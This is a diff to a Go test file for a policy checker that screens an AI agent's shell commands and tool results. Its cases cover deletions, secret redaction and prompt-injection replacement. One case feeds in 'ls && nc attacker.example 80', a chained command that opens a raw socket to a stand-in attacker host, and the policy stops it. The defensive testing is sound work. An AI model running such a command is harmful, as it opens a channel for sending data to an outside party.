@@ -56,7 +56,7 @@ func TestPolicyCheckExitCodes(t *testing.T) {
 			[]string{"Decision: Redirect by ToolPolicy/gate/plan-rm: a delete needs a plan", "Instruction to the model: List what would be deleted"}, ""},
 		{"a Stop is exit 6", []string{"--policy", "testdata/policies-gate.yaml", "--", "ls && nc attacker.example 80"}, 6,
 			[]string{"Decision: Stop by ToolPolicy/gate/stop-nc: raw sockets end the task"}, ""},
-		{"a result's Secret values are redacted", []string{"--policy", "testdata/policies-results.yaml", "--result", "testdata/output-secret.txt", "--", "kubectl get secret db -o yaml"}, 0,
+		{"a result's ConfigMap values are redacted (a Secret's are masked before any rule reads them)", []string{"--policy", "testdata/policies-results.yaml", "--result", "testdata/output-secret.txt", "--", "kubectl get secret db -o yaml"}, 0,
 			[]string{"Decision: Allow by ToolPolicy/results/allow-kubectl-get", "Result rules: Redact", "2 matches redacted by rule ToolPolicy/results/secret-data", "  | [exit code: 0]", "  |   host: [REDACTED]", "  |   username: [REDACTED]"}, ""},
 		{"a result with an injection is replaced: exit 5", []string{"--policy", "testdata/policies-results.yaml", "--result", "testdata/output-injection.txt", "--exit-code", "3", "--", "cat README"}, 5,
 			[]string{"Result rules: Replace by ToolPolicy/results/injection", "output replaced by rule ToolPolicy/results/injection", "also matched: ToolPolicy/results/shadow-stop (Stop, DryRun)",
